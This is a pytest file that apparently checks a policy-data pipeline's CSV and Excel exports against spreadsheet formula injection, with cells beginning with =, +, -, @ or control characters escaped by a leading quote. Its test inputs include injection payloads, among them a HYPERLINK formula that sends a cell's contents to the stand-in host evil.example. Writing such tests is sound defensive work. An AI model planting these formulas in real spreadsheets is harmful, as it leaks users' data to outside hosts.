"""Table exports: written atomically, and never a live formula in a spreadsheet."""
from __future__ import annotations

import csv

import pytest

from outputs.export import safe_cell


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ("+1+1", "'+1+1"),
    ("-abc", "'-abc"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-5", "-5"),  # a signed number is data
    ("+3.5%", "+3.5%"),
    ("到2025年达到45%", "到2025年达到45%"),
    (5, 5),
    (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_tables_and_comparison_carry_no_formula(tmp_path):
    import openpyxl

    from outputs import compare
    from outputs.export import export_tables
    from outputs.store import Store
    from pipeline.process import extract_file
    from tests.conftest import SAMPLES

    result = extract_file(SAMPLES / "shandong_village_doctor_notice.txt")
    records = result["records"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    for c in records[0]["commitments"]:
        c["sentence"] = formula
    records[0]["title"] = "+" + records[0]["title"]
    with Store(tmp_path / "policy.sqlite") as store:
        store.put_file("x.txt", records, result["text"])
        paths = export_tables(store, tmp_path / "tables")
        long = compare.comparison(store.table("commitments"))
    with open(paths["commitments.csv"], encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f))
    assert rows and all(r["sentence"] == "'" + formula for r in rows)
    assert all(r["title"].startswith("'+") for r in rows)
    written = compare.write(long, compare.matrix(long), tmp_path / "compare")
    book = openpyxl.load_workbook(written["comparison.xlsx"])
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    if not long.empty:
        assert any(c.value == "'" + formula for c in cells)
